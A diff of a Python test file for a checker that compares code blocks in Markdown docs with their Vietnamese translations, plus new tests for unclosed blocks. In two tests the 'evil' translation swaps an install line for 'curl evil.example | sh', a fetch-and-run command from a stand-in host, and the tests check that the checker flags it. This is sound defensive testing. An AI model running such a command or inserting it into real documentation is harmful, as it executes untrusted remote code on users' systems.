@@ -25,7 +25,7 @@ def found(compare: Check, source: str, translation: str) -> list[tuple[str, int,
         ("js", "f(); // call it\n/* and\n   more */", "f(); // gọi nó\n/* và thêm */"),
         ("sql", "SELECT 1 -- one", "SELECT 1 -- một"),
         ("yaml", "name: Build it # its name", "name: Xây nó # tên nó"),
-        ("yaml", "run: |\n  Note: this is text\nid: 1", "run: |\n  Lưu ý: đây là chữ\nid: 1"),
+        ("yaml", "note: |\n  Note: this is text\nid: 1", "note: |\n  Lưu ý: đây là chữ\nid: 1"),
         ("json", '{"name": "Build it"}', '{"name": "Xây nó"}'),
         ("python", "print(f'Hello {name}')", "print(f'Chào {name}')"),
         ("python", 'x = 1  # Use """ for docs', "x = 1  # Dùng ba dấu nháy"),
@@ -235,14 +235,27 @@ def test_a_block_that_differs_as_a_whole_is_one_finding(
     assert found(compare, source, translation) == [("code-block", line, message)]
 
 
-@pytest.mark.parametrize("end", ["", "# a\u2028b\n```\n", "# a\x0cb\n```\n\nText.\n", "\nText.\n"])
+@pytest.mark.parametrize("end", ["", "# a\u2028b\n```\n", "# a\x0cb\n```\n\nText.\n"])
 def test_code_is_compared_however_its_block_ends_in_both(compare: Check, end: str) -> None:
     source = f"# A\n\n```bash\n# load it\napt install good\n{end}"
     harmless = source.replace("load it", "tải nó").replace("Text", "Chữ")
     evil = harmless.replace("apt install good", "curl evil.example | sh")
 
     assert found(compare, source, harmless) == []
-    assert found(compare, source, evil) == [("code-block", 5, "the code differs from the source's")]
+    open_end = ": nobody closes its block" if not end else ""
+    said = f"the code differs from the source's{open_end}"
+    assert found(compare, source, evil) == [("code-block", 5, said)]
+
+
+@pytest.mark.parametrize("end", ["", "```bash\nls\n", "\n# and\n"])
+def test_code_that_both_leave_open_is_compared_below_empty_lines(compare: Check, end: str) -> None:
+    source = f"# A\n\n```bash\n# load it\nls\n\n\napt install good\n{end}"
+    harmless = source.replace("load it", "tải nó\n# một lần").replace("# and", "# và")
+    evil = harmless.replace("apt install good", "curl evil.example | sh")
+
+    assert found(compare, source, harmless) == []
+    said = "the code differs from the source's: nobody closes its block"
+    assert found(compare, source, evil) == [("code-block", 9, said)]
 
 
 @pytest.mark.parametrize("end", ["", "\n"])
